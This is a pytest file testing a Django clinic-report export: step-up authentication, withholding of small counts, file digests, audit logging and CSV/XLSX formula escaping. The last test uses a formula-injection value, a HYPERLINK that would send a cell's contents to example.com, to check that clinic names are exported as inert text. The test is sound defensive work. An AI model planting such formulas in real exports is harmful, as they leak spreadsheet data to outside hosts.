"""Exports: after step-up only, withheld exactly like the screen, the digest shown is the
digest of the file, and the download is audited as an export with it."""

from __future__ import annotations

import csv
import hashlib
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lantern.audit.models import AuditEvent
from tests.clients import stepped_up
from tests.reports import builders as b

EXPORT = reverse("reports:export")
DOWNLOAD = reverse("reports:download")


@pytest.fixture
def figures(personas):
    b.visits(b.patients(12, personas.clinic), personas.clinic, b.OCTOBER, personas.clinician)
    b.visits(b.patients(5, personas.clinic), personas.clinic, b.SEPTEMBER, personas.clinician)
    b.refresh(personas.clinic)


def shown_digest(client, file_format):
    page = client.get(EXPORT, {**b.RANGE, "format": file_format})
    assert page.status_code == 200
    html = page.content.decode()
    digest = re.search(r"<code class=\"digest\" data-sha256>([0-9a-f]{64})</code>", html)
    assert digest, html
    link = re.search(r'href="(/reports/export/file\?[^"]+)"', html)
    assert link
    return digest.group(1), link.group(1).replace("&amp;", "&")


def test_an_export_asks_for_the_password_and_code_again(personas, client_for, figures):
    response = client_for(personas.manager).get(EXPORT, {**b.RANGE, "format": "csv"})
    assert response.status_code == 302
    assert response.url.startswith(reverse("accounts:confirm"))
    response = client_for(personas.manager).get(DOWNLOAD, {**b.RANGE, "format": "csv"})
    assert response.url.startswith(reverse("accounts:confirm"))
    assert not AuditEvent.objects.filter(action="export").exists()


def test_the_csv_holds_the_screens_figures_and_its_digest_is_the_one_shown(personas, figures):
    client = stepped_up(personas.manager)
    digest, link = shown_digest(client, "csv")
    response = client.get(link)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="program-report.csv"'
    assert hashlib.sha256(response.content).hexdigest() == digest == response["X-Content-SHA256"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    seen = {(r["month"], r["category"]): r for r in rows if r["table"] == "Patients seen"}
    assert seen[("2026-10", "Riverside Clinic")]["count"] == "12"
    september = seen[("2026-09", "Riverside Clinic")]
    assert september["count"] == ""
    assert september["withheld"] == "yes"
    assert not any(r["count"] in {str(n) for n in range(1, 11)} for r in rows)
    entry = AuditEvent.objects.get(action="export", actor=personas.manager)
    assert f"sha256 {digest}" in entry.detail
    assert entry.patient_id is None


def test_the_xlsx_is_the_same_file_each_time_and_withholds_the_same(personas, figures):
    client = stepped_up(personas.manager)
    digest, link = shown_digest(client, "xlsx")
    first, second = client.get(link), client.get(link)
    assert first.content == second.content
    assert hashlib.sha256(first.content).hexdigest() == digest
    sheet = load_workbook(io.BytesIO(first.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("table", "scope", "month", "category", "count", "withheld")
    by_key = {(r[0], r[2], r[3]): r for r in rows[1:]}
    assert by_key[("Patients seen", "2026-10", "Riverside Clinic")][4] == 12
    assert by_key[("Patients seen", "2026-09", "Riverside Clinic")][4:] == (None, "yes")
    assert AuditEvent.objects.filter(action="export", detail__contains=digest).count() == 2


def test_figures_refreshed_after_the_digest_was_shown_show_the_new_digest(personas, figures):
    client = stepped_up(personas.manager)
    _digest, link = shown_digest(client, "csv")
    b.visits(b.patients(11, personas.clinic), personas.clinic, b.OCTOBER, personas.clinician)
    b.refresh(personas.clinic)
    response = client.get(link)
    assert response.status_code == 302
    assert response.url.startswith(EXPORT)
    assert not AuditEvent.objects.filter(action="export").exists()


def test_an_export_with_a_bad_month_says_so(personas):
    response = stepped_up(personas.manager).get(EXPORT, {"start": "2026-1", "format": "csv"})
    assert response.status_code == 400
    assert "Enter the month as YYYY-MM" in response.content.decode()


HOSTILE = '=HYPERLINK("https://example.com/?"&A1,"Open")'


def test_a_clinic_named_like_a_formula_is_exported_as_text(personas):
    """A clinic name is typed by an administrator; a spreadsheet must not run it."""
    from tests.factories import ClinicFactory

    hostile = ClinicFactory(name=HOSTILE, health_system=personas.clinic.health_system)
    b.visits(b.patients(12, hostile), hostile, b.OCTOBER, personas.clinician)
    b.refresh(personas.clinic)
    client = stepped_up(personas.manager)
    _digest, link = shown_digest(client, "csv")
    rows = list(csv.DictReader(io.StringIO(client.get(link).content.decode())))
    named = [r["category"] for r in rows if HOSTILE in r["category"]]
    assert named
    assert all(name == "'" + HOSTILE for name in named)
    _digest, link = shown_digest(client, "xlsx")
    sheet = load_workbook(io.BytesIO(client.get(link).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if HOSTILE in str(cell.value)]
    assert cells
    assert all(cell.data_type == "s" and not cell.value.startswith("=") for cell in cells)
